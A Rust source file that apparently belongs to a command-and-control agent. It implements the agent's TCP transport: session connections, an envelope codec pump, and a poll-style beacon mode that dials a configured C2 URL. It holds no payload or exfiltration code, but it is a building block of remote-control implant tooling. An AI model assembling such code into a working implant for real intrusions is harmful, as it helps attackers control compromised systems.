//! Connection and beacon abstractions, plus a stream-backed TCP transport

use crate::error::AgentError;
use async_trait::async_trait;
use backhaul_proto::{Envelope, EnvelopeCodec, ProtocolError};
use tokio::io::{AsyncRead, AsyncWrite};
use tokio::net::TcpStream;
use tokio::sync::{mpsc, Mutex};
use tokio::task::JoinHandle;
use tracing::{debug, info, warn};
use url::Url;
use uuid::Uuid;

/// Envelopes buffered in each direction of a connection
pub const CHANNEL_CAPACITY: usize = 256;

/// Cloneable send side of a [`Connection`], handed to handlers that write
/// back asynchronously.
#[derive(Debug, Clone)]
pub struct Outbound {
    tx: mpsc::Sender<Envelope>,
    session_id: Uuid,
}

impl Outbound {
    /// Queue an envelope for the far end
    pub async fn send(&self, envelope: Envelope) -> Result<(), AgentError> {
        self.tx
            .send(envelope)
            .await
            .map_err(|_| AgentError::Transport("connection closed".to_string()))
    }

    /// Session this handle writes to
    pub fn session_id(&self) -> Uuid {
        self.session_id
    }

    /// Whether the connection has gone away
    pub fn is_closed(&self) -> bool {
        self.tx.is_closed()
    }

    /// Resolves once the connection has gone away
    pub async fn closed(&self) {
        self.tx.closed().await
    }
}

/// The far side of a channel-backed [`Connection`]
pub struct ConnectionPeer {
    /// Deliver envelopes to the agent
    pub to_agent: mpsc::Sender<Envelope>,
    /// Envelopes the agent sent
    pub from_agent: mpsc::Receiver<Envelope>,
}

/// A live, bidirectional envelope stream owned by one engine at a time
pub struct Connection {
    outbound: Outbound,
    inbound: mpsc::Receiver<Envelope>,
    active_c2: String,
    proxy_url: Option<String>,
    pumps: Vec<JoinHandle<()>>,
}

impl Connection {
    /// Create a connection backed by in-memory channels
    pub fn channel(active_c2: impl Into<String>) -> (Self, ConnectionPeer) {
        let (out_tx, out_rx) = mpsc::channel(CHANNEL_CAPACITY);
        let (in_tx, in_rx) = mpsc::channel(CHANNEL_CAPACITY);
        let connection = Self {
            outbound: Outbound {
                tx: out_tx,
                session_id: Uuid::new_v4(),
            },
            inbound: in_rx,
            active_c2: active_c2.into(),
            proxy_url: None,
            pumps: Vec::new(),
        };
        let peer = ConnectionPeer {
            to_agent: in_tx,
            from_agent: out_rx,
        };
        (connection, peer)
    }

    /// Run the envelope codec over a byte stream
    pub fn from_stream<S>(stream: S, active_c2: impl Into<String>) -> Self
    where
        S: AsyncRead + AsyncWrite + Send + 'static,
    {
        let (mut connection, peer) = Self::channel(active_c2);
        let ConnectionPeer { to_agent, mut from_agent } = peer;
        let (mut reader, mut writer) = tokio::io::split(stream);

        let read_pump = tokio::spawn(async move {
            let mut codec = EnvelopeCodec::new();
            loop {
                match codec.read_envelope(&mut reader).await {
                    Ok(Some(envelope)) => {
                        if to_agent.send(envelope).await.is_err() {
                            break;
                        }
                    }
                    Ok(None) => {
                        debug!("Stream closed by peer");
                        break;
                    }
                    Err(ProtocolError::Serialization(e)) => {
                        warn!("Dropping undecodable envelope: {}", e);
                    }
                    Err(e) => {
                        warn!("Read error, closing connection: {}", e);
                        break;
                    }
                }
            }
        });

        let write_pump = tokio::spawn(async move {
            let codec = EnvelopeCodec::new();
            while let Some(envelope) = from_agent.recv().await {
                if let Err(e) = codec.write_envelope(&mut writer, &envelope).await {
                    warn!("Write error, closing connection: {}", e);
                    break;
                }
            }
        });

        connection.pumps = vec![read_pump, write_pump];
        connection
    }

    /// Attach the proxy URL the transport went through
    pub fn with_proxy_url(mut self, proxy_url: Option<String>) -> Self {
        self.proxy_url = proxy_url;
        self
    }

    /// Send handle for this connection
    pub fn outbound(&self) -> Outbound {
        self.outbound.clone()
    }

    /// Queue an envelope for the far end
    pub async fn send(&self, envelope: Envelope) -> Result<(), AgentError> {
        self.outbound.send(envelope).await
    }

    /// Next inbound envelope; `None` once the transport has closed
    pub async fn recv(&mut self) -> Option<Envelope> {
        self.inbound.recv().await
    }

    /// Session identifier assigned to this connection
    pub fn session_id(&self) -> Uuid {
        self.outbound.session_id
    }

    /// Transport URL in use
    pub fn active_c2(&self) -> &str {
        &self.active_c2
    }

    /// Proxy URL in use
    pub fn proxy_url(&self) -> Option<&str> {
        self.proxy_url.as_deref()
    }

    /// Stop the transport. Safe to call more than once.
    pub fn stop(&mut self) {
        self.inbound.close();
        for pump in self.pumps.drain(..) {
            pump.abort();
        }
    }
}

impl Drop for Connection {
    fn drop(&mut self) {
        self.stop();
    }
}

/// Poll-style transport used by beacon mode
#[async_trait]
pub trait Beacon: Send + Sync {
    /// Transport URL in use
    fn active_c2(&self) -> &str;

    /// Proxy URL in use
    fn proxy_url(&self) -> Option<&str> {
        None
    }

    /// One-time setup before the first cycle
    async fn init(&self) -> Result<(), AgentError> {
        Ok(())
    }

    /// Open the transport for one exchange
    async fn start(&self) -> Result<(), AgentError>;

    /// Send an envelope
    async fn send(&self, envelope: Envelope) -> Result<(), AgentError>;

    /// Receive an envelope; `None` means the server had nothing to say
    async fn recv(&self) -> Result<Option<Envelope>, AgentError>;

    /// Close the transport until the next `start`
    async fn close(&self) -> Result<(), AgentError>;

    /// Final teardown
    async fn cleanup(&self) -> Result<(), AgentError> {
        Ok(())
    }
}

/// Produces a connection candidate for a C2 URL.
///
/// `Ok(None)` means no candidate could be built for that URL (for example an
/// unsupported scheme); it is not a connection failure.
#[async_trait]
pub trait Dial: Send + Sync {
    /// What a successful dial yields
    type Output: Send;

    /// Attempt to reach `c2`
    async fn dial(&self, c2: &Url) -> Result<Option<Self::Output>, AgentError>;
}

fn tcp_address(c2: &Url) -> Result<String, AgentError> {
    let host = c2
        .host_str()
        .ok_or_else(|| AgentError::Transport(format!("{} has no host", c2)))?;
    let port = c2
        .port()
        .ok_or_else(|| AgentError::Transport(format!("{} has no port", c2)))?;
    Ok(format!("{}:{}", host, port))
}

/// Session dialer for `tcp://host:port`
#[derive(Debug, Default, Clone)]
pub struct TcpDialer;

#[async_trait]
impl Dial for TcpDialer {
    type Output = Connection;

    async fn dial(&self, c2: &Url) -> Result<Option<Connection>, AgentError> {
        if c2.scheme() != "tcp" {
            debug!("No session transport for scheme {}", c2.scheme());
            return Ok(None);
        }
        let address = tcp_address(c2)?;
        let stream = TcpStream::connect(&address).await.map_err(AgentError::transport)?;
        info!("Connected to {}", c2);
        Ok(Some(Connection::from_stream(stream, c2.as_str())))
    }
}

/// Beacon over short-lived TCP connections, one per `start`
pub struct TcpBeacon {
    address: String,
    active_c2: String,
    stream: Mutex<Option<(TcpStream, EnvelopeCodec)>>,
}

impl TcpBeacon {
    /// Create a beacon for `tcp://host:port`
    pub fn new(c2: &Url) -> Result<Self, AgentError> {
        Ok(Self {
            address: tcp_address(c2)?,
            active_c2: c2.to_string(),
            stream: Mutex::new(None),
        })
    }
}

#[async_trait]
impl Beacon for TcpBeacon {
    fn active_c2(&self) -> &str {
        &self.active_c2
    }

    async fn start(&self) -> Result<(), AgentError> {
        let stream = TcpStream::connect(&self.address).await.map_err(AgentError::transport)?;
        *self.stream.lock().await = Some((stream, EnvelopeCodec::new()));
        Ok(())
    }

    async fn send(&self, envelope: Envelope) -> Result<(), AgentError> {
        let mut guard = self.stream.lock().await;
        let (stream, codec) = guard
            .as_mut()
            .ok_or_else(|| AgentError::Transport("beacon not started".to_string()))?;
        codec
            .write_envelope(stream, &envelope)
            .await
            .map_err(AgentError::transport)
    }

    async fn recv(&self) -> Result<Option<Envelope>, AgentError> {
        let mut guard = self.stream.lock().await;
        let (stream, codec) = guard
            .as_mut()
            .ok_or_else(|| AgentError::Transport("beacon not started".to_string()))?;
        match codec.read_envelope(stream).await {
            Ok(envelope) => Ok(envelope),
            Err(e) if e.is_transport() => Err(AgentError::transport(e)),
            Err(e) => Err(AgentError::Protocol(e)),
        }
    }

    async fn close(&self) -> Result<(), AgentError> {
        self.stream.lock().await.take();
        Ok(())
    }
}

/// Beacon dialer for `tcp://host:port`
#[derive(Debug, Default, Clone)]
pub struct TcpBeaconDialer;

#[async_trait]
impl Dial for TcpBeaconDialer {
    type Output = std::sync::Arc<dyn Beacon>;

    async fn dial(&self, c2: &Url) -> Result<Option<Self::Output>, AgentError> {
        if c2.scheme() != "tcp" {
            debug!("No beacon transport for scheme {}", c2.scheme());
            return Ok(None);
        }
        Ok(Some(std::sync::Arc::new(TcpBeacon::new(c2)?)))
    }
}
